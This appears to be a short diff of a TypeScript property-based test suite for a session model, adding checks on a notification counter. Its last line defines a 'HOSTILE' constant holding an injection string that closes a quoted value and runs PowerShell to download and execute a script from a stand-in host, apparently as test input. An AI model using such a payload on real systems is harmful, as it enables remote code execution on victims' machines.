@@ -24,7 +24,9 @@ class Deed implements fc.AsyncCommand<Model, Desk> {
   }
 
   async run(model: Model, desk: Desk) {
+    const { told } = desk.office;
     await desk.unhurried(() => this.act(model, desk));
+    if (desk.office.told > told) model.answered();
     await holds(model, desk);
   }
 
@@ -136,7 +138,10 @@ const type =
   async (model, desk) => {
     desk.session.entry.type(field, of ? valueOf(field, of, desk) : '');
     model.type(field, of);
-    if (field === 'clientId') await desk.session.reader.reread();
+    if (field !== 'clientId') return;
+    const { told } = desk.office;
+    await desk.session.reader.reread();
+    if (desk.office.told > told) model.answered();
   };
 
 const HOSTILE = "x'; iwr https://boese.example/x.ps1 | iex; $z='";
